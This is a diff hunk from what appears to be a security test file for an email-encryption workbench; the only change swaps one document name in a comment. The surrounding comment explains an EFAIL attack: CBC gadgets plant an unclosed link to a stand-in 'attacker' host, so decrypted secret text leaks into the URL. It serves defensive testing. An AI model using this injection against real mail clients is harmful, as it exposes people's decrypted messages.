@@ -1,4 +1,4 @@
-// EFAIL by one click (DESIGN.md rules 7 and 11; issue 12, finding 7), in real Chromium against the workbench.
+// EFAIL by one click (ARCHITECTURE.md rules 7 and 11; issue 12, finding 7), in real Chromium against the workbench.
 // An attacker who captured an AES-CBC EnvelopedData message can, with CBC gadgets, make the decrypted HTML start
 // with their own block: an `<a href="http://attacker/?` that is never closed, so the secret text that follows
 // becomes part of the URL, and an absolutely positioned link that covers the whole content frame. One click
